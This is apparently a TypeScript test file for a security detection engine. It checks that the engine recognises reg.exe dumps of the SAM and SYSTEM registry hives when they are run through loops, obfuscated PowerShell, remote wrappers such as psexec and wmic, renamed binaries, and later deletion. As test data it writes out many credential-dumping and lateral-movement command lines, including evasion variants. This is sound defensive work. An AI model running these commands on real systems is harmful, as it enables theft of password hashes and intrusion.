/** What programs that hand on a command of reg.exe show of it: every command, and the machine it is meant for. */
import { describe, expect, it, test } from 'vitest';
import { caseFacts } from '../../../src/core/facts/case-facts.ts';
import { regActOf, regActsOf } from '../../../src/core/facts/reg-act.ts';
import { anchorReader } from '../../../src/core/hunt/told-anchor.ts';
import { HIVE_HUNT } from '../hunt/given.ts';
import { joined, NOON, run } from './events.ts';

const by = (image: string, line: string) => run(line, {}, { 'process.executable': `C:\\x\\${image}` });
const acts = (image: string, line: string) =>
  regActsOf(by(image, line)).map(({ command: { operation, key, output } }) => [operation, key?.path, output]);
const BOTH = [
  ['save', 'HKLM\\sam', 'C:\\t\\sam'],
  ['save', 'HKLM\\system', 'C:\\t\\system'],
];

describe('a loop over hives is each of its rounds', () => {
  it.each([
    ['cmd.exe', 'cmd /c for %i in (sam system) do reg save HKLM\\%i C:\\t\\%i'],
    ['cmd.exe', 'cmd /c "for %i in (sam,system) do @(reg save HKLM\\%i C:\\t\\%i)"'],
    ['cmd.exe', 'cmd /c for %%i in (sam system) do reg save HKLM\\%%~i C:\\t\\%%i'],
    ['powershell.exe', `powershell -c "'sam','system' | % { reg save HKLM\\$_ C:\\t\\$_ }"`],
    ['powershell.exe', `powershell -c "@('sam','system') | ForEach-Object {reg save HKLM\\$_ C:\\t\\$_}"`],
    ['powershell.exe', `powershell -c "foreach ($h in 'sam','system') { reg save HKLM\\$h C:\\t\\$h }"`],
  ])('%s: %s', (image, line) => {
    expect(acts(image, line)).toEqual(BOTH);
  });
});

describe('PowerShell code whose words are taken apart is read whole', () => {
  it.each([
    'powershell r`eg sa`ve HKLM\\s`am C:\\t\\sam',
    `powershell -c "& ('re'+'g') save ('HKLM\\s'+'am') C:\\t\\sam"`,
    `powershell [System.Diagnostics.Process]::Start("reg.exe","save HKLM\\sam C:\\t\\sam")`,
    'powershell -c "reg save \\"HKLM\\sam\\" \\"C:\\t\\sam\\""',
  ])('%s', (line) => {
    expect(acts('powershell.exe', line)).toEqual([BOTH[0]]);
  });
});

describe('a program that is given text does not run it', () => {
  it.each([
    ['findstr.exe', 'findstr /c:"reg save HKLM\\SAM" *.log'],
    ['git.exe', 'git commit -m "explain reg save HKLM\\SAM file"'],
    ['curl.exe', 'curl -d "reg export HKLM\\SAM file" https://wiki.example'],
    ['cmd.exe', 'cmd /c findstr /c:"reg save HKLM\\SAM" *.log'],
  ])('%s: %s', (image, line) => {
    expect(acts(image, line)).toEqual([]);
  });
});

describe('the machine that a wrapper names is the one whose registry is meant', () => {
  it.each([
    ['psexec.exe', 'psexec -accepteula -s \\\\SRV9 reg save HKLM\\SAM C:\\s', 'srv9'],
    ['wmic.exe', 'wmic /user:a /node:"srv9" process call create "reg save HKLM\\SAM C:\\s"', 'srv9'],
    ['schtasks.exe', 'schtasks /create /s srv9 /sc once /tn a /tr "reg save HKLM\\SAM C:\\s"', 'srv9'],
    ['sc.exe', 'sc \\\\srv9 create a binPath= "cmd /c reg save HKLM\\SAM C:\\s"', 'srv9'],
    ['at.exe', 'at \\\\srv9 13:00 reg save HKLM\\SAM C:\\s', 'srv9'],
    ['winrs.exe', 'winrs -r:http://srv9:5985 reg save HKLM\\SAM C:\\s', 'srv9'],
    ['powershell.exe', 'powershell icm -cn srv9 { reg save HKLM\\SAM C:\\s }', 'srv9'],
    ['wmic.exe', 'wmic /node:localhost process call create "reg save HKLM\\SAM C:\\s"', undefined],
    ['schtasks.exe', 'schtasks /create /sc once /tn a /tr "reg save HKLM\\SAM C:\\s"', undefined],
    ['reg.exe', 'reg save \\\\WS01.corp.example\\HKLM\\SAM C:\\s', undefined],
    ['reg.exe', 'reg save \\\\127.0.0.1\\HKLM\\SAM C:\\s', undefined],
  ])('%s: %s', (image, line, host) => {
    expect(regActOf(by(image, line))?.command.key?.remoteHost).toBe(host);
  });
});

test('each act of a line is an anchor of its own, and pairs with the others', () => {
  const line =
    'wmic /node:srv9 process call create "cmd /c reg save HKLM\\SAM C:\\a & reg save HKLM\\SYSTEM C:\\b"';
  const anchors = anchorReader(HIVE_HUNT)(by('wmic.exe', line));
  expect(anchors.map((anchor) => caseFacts(joined(anchor)))).toMatchObject([
    { 'reg.key.hive': 'SAM', 'hive.taken': ['SAM'], 'pair.hives': ['SAM', 'SYSTEM'] },
    { 'reg.key.hive': 'SYSTEM', 'hive.taken': ['SYSTEM'], 'pair.hives': ['SAM', 'SYSTEM'] },
  ]);
});

test('what reg query read before a copy is told with it, and not what it read later', () => {
  const asked = (key: string, seconds: number) => run(`reg query ${key}`, { time: NOON + seconds * 1000 });
  const neighbours = [asked('HKLM\\B', -9), asked('HKLM\\A', -8), asked('HKLM\\b', -7), asked('HKLM\\C', 5)];
  expect(caseFacts(joined(run('reg save HKLM\\SAM C:\\s'), { neighbours }))).toMatchObject({
    'pair.asked': ['hklm\\a', 'hklm\\b'],
    'pair.asked_count': 2,
  });
});

describe('a copy deleted afterwards', () => {
  const save = run('reg save HKLM\\SAM C:\\t\\s.hiv');
  const facts = (image: string, line: string) =>
    caseFacts(
      joined(save, {
        neighbours: [run(line, { time: NOON + 60_000 }, { 'process.executable': `C:\\x\\${image}` })],
      }),
    );
  it.each([
    ['cmd.exe', 'cmd /c del /q C:\\t\\s.hiv'],
    ['powershell.exe', 'powershell Remove-Item C:\\t\\s.hiv -Force'],
    ['sdelete.exe', 'sdelete -p 3 C:\\t\\s.hiv'],
  ])('is told by %s: %s', (image, line) => {
    expect(facts(image, line)).toMatchObject({ 'pair.deleted_by': [image] });
    expect(facts(image, line)['pair.moved_by']).toBeUndefined();
  });

  it('is told as carried away by what copies it first', () => {
    const line = 'cmd /c copy C:\\t\\s.hiv \\\\srv\\d & del C:\\t\\s.hiv';
    expect(facts('cmd.exe', line)).toMatchObject({ 'pair.moved_by': ['cmd.exe'] });
  });
});

describe('a renamed tool', () => {
  const named = (line: string, fields: Record<string, string>) =>
    regActOf(run(line, {}, { 'process.executable': 'C:\\t\\a.exe', ...fields }));
  it('is told by its grammar with quotes inside', () => {
    expect(named('a.exe "s"ave HK"LM"\\SAM C:\\s', {})).toMatchObject({ renamed: true, wrapped: false });
  });
  it('may be regedit', () => {
    const line = 'a.exe /e C:\\s.reg HKEY_LOCAL_MACHINE\\SAM';
    expect(named(line, { 'process.pe.original_file_name': 'REGEDIT.EXE' })).toMatchObject({
      renamed: true,
      command: { tool: 'regedit', operation: 'export', key: { path: 'HKLM\\SAM' } },
    });
  });
});
